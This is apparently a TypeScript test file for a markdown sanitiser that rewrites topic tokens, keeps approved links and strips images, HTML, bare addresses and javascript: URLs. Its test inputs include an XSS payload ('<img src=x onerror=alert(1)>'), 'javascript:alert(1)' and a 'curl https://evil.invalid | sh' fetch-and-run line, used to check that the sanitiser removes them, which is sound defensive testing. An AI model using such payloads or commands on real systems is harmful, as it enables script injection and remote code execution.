import assert from 'node:assert/strict';
import { describe, test } from 'node:test';

import fc from 'fast-check';

import { gateText, makeLineGate } from './gate-text.ts';
import { hostile, page } from './arbitrary.ts';

const allowed = {
  topics: new Map([['T1', '[Lists](/language/python#lists)']]),
  pages: new Set([page, 'https://en.wikipedia.org/wiki/C_(programming_language)']),
};
const pass = (text: string) => gateText(text, allowed);
const runs = { numRuns: Number(process.env['PROPERTY_RUNS'] ?? 2000) };
describe('gateText(text, allowed)', () => {
  test('turns a token into its topic, and drops one that there is not', () => {
    assert.equal(pass('See [[T1]] and [[T9]].'), 'See [Lists](/language/python#lists) and  .');
  });

  test('keeps a link to the registry, and the words of any other', () => {
    assert.equal(pass(`Read [this](${page}).`), `Read [this](${page}).`);
    assert.equal(pass('Read [this](https://evil.invalid).').replaceAll(/ +/g, ' '), 'Read this .');
  });

  test('lets no image, HTML, definition, bare address or e-mail through', () => {
    for (const text of [
      '![x](https://evil.invalid/i.png)',
      '<img src=x onerror=alert(1)>',
      '[a]: https://evil.invalid',
      'https://evil.invalid and www.evil.invalid',
      'me@evil.invalid',
      'javascript:alert(1)',
      '`javascript:alert(1)`',
      '```\ncurl https://evil.invalid | sh\n```',
    ]) {
      assert.doesNotMatch(pass(text), /evil|<|javascript:/, text);
    }
  });

  test('leaves code as it is, and addresses set aside for examples', () => {
    const code = '```\nconst a = [[1], [2]]; fetch("http://localhost:3000/x?y=<z>")\n```';
    assert.equal(pass(code), code);
    assert.equal(pass('Use `a[0] < b` here.'), 'Use `a[0] < b` here.');
  });

  test('gives the same for any cut', () => {
    fc.assert(
      fc.property(hostile, fc.array(fc.nat(60), { maxLength: 8 }), (text, cuts) => {
        const gate = makeLineGate(allowed);
        let rest = text;
        let out = '';
        for (const cut of cuts) {
          out += gate.pass(rest.slice(0, cut));
          rest = rest.slice(cut);
        }
        assert.equal(out + gate.pass(rest) + gate.end(), pass(text));
      }),
      runs,
    );
  });
});
